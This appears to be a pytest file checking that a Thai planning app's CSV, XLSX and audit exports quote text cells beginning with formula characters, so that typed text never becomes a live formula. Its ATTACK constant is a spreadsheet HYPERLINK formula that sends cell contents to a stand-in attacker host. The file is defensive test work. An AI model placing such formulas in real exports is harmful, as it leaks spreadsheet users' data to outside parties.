"""Text a district typed never becomes a live formula in an export: CSV, XLSX and the
audit export quote every text cell that starts with =, +, -, @, a tab or a CR, and
numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from plancycle.cells import safe_cell
from plancycle.workflow import walk as walk_module
from plancycle.workflow.audit_export import export_records
from plancycle.workflow.walk import walk
from tests.webapp import PROVINCE, Web, make_web

ATTACK = '=HYPERLINK("http://attacker.example/?x="&A1,"ดูรายละเอียด")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_like_a_formula_is_quoted(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


def test_numbers_dates_and_plain_text_pass_unchanged() -> None:
    for value in (-5, 3.5, None, "อบรม 1+1", "1-2"):
        assert safe_cell(value) == value


@pytest.fixture
def web(sqlite_engine: sa.Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Web:
    """Activity 3 of tambon 240101 done with a project description that is a formula,
    and a note that is one too."""
    monkeypatch.setitem(walk_module._BY_NAME, "project_description", ATTACK)  # type: ignore[index]
    w = make_web(sqlite_engine, tmp_path)
    walk(w.world.engine, "2568/activity3/240101", w.world.actors, w.world.pdf, note="@SUM(1,2)")
    return w


def _get(web: Web, path: str) -> bytes:
    answer = web.client.get(path, headers=web.auth(PROVINCE))
    assert answer.status_code == 200, answer.text
    return answer.content


def test_the_csv_sheet_quotes_the_formula(web: Web) -> None:
    sheet = list(
        csv.DictReader(
            io.StringIO(_get(web, "/api/v1/exports/activity3.csv?lang=en").decode("utf-8-sig"))
        )
    )
    row = next(r for r in sheet if r["Tambon code"] == "240101")
    assert row["Activities/projects"] == "'" + ATTACK
    assert row["Spent (baht)"] == "10000"


def test_the_xlsx_sheet_holds_text_not_a_formula(web: Web) -> None:
    book = load_workbook(io.BytesIO(_get(web, "/api/v1/exports/activity3.xlsx?lang=en")))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    formulas = [c for c in cells if c.data_type == "f"]
    # the only formulas are the totals row's own, over the rows above it
    (totals,) = [c.row for c in book.active["A"] if c.value == "Total"]
    assert formulas and {c.row for c in formulas} == {totals}
    assert all(c.value.startswith(("=SUM(", "=COUNTIF(")) for c in formulas)
    attack = [c for c in cells if isinstance(c.value, str) and ATTACK in c.value]
    assert [c.value for c in attack] == ["'" + ATTACK]
    assert any(c.value == 10000 and c.data_type == "n" for c in cells)  # numbers stay numbers


def test_the_audit_export_quotes_the_note(web: Web) -> None:
    out = io.StringIO()
    export_records(web.world.db, out, "csv", area="240101")
    notes = {r["note"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert notes == {"'@SUM(1,2)"}
